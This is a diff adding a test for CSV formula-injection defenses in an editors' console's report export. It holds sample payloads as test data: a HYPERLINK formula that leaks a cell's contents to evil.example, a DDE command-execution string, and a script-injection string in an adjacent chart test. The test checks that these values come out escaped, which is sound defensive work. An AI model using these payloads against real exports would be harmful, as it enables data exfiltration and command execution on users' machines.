@@ -6,6 +6,7 @@ import { settingsDiff, settingsFromForm, SETTING_FIELDS } from '../../src/web/ed
 import { DEFAULT_SETTINGS } from '../../src/personalize/settings.js';
 import { addEditor, editorLoginLink } from '../../src/cli/commands/editors.js';
 import { barChart, lineChart } from '../../src/web/editor/charts.js';
+import { csvCell, toCsv } from '../../src/web/editor/csv.js';
 import { Client, makeWorld, type World } from './world.js';
 
 let w: World;
@@ -175,6 +176,23 @@ describe("editors' console", () => {
     const svg = barChart([{ label: '<script>alert(1)</script>', value: 1 }], { title: '"><x' });
     expect(svg).not.toContain('<script>');
     expect(lineChart(['a', 'b'], [{ name: 's', values: [1, Number.NaN] }], { title: 't' })).toContain('<svg');
+  });
+
+  it('STO-12: CSV reports neutralise formulas, keep numbers', async () => {
+    for (const bad of ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\0=1']) {
+      const cell = csvCell(bad);
+      expect(cell.replace(/^"/, '').startsWith("'"), JSON.stringify(bad)).toBe(true);
+    }
+    expect(csvCell('"=1+1"')).toBe('"""=1+1"""');
+    expect(csvCell(-5)).toBe('-5');
+    expect(csvCell('Élections, résultats')).toBe('"Élections, résultats"');
+    expect(toCsv(['=h'], [[1]])).toBe("\"'=h\"\r\n1\r\n");
+    await w.ctx.store.upsertArticles([{ ...(await w.ctx.store.getArticle('art-3'))!, id: 'art-evil', guidHash: 'evil', title: '=HYPERLINK("https://evil.example")' }]);
+    const r = await editor.get('/editor/reports/articles.csv');
+    expect(r.statusCode).toBe(200);
+    expect(r.headers['content-type']).toMatch(/text\/csv/);
+    expect(r.body).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
+    expect(r.body).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 
   it('sign-in by mail for known editors only, same answer otherwise; removed editors lose their session', async () => {
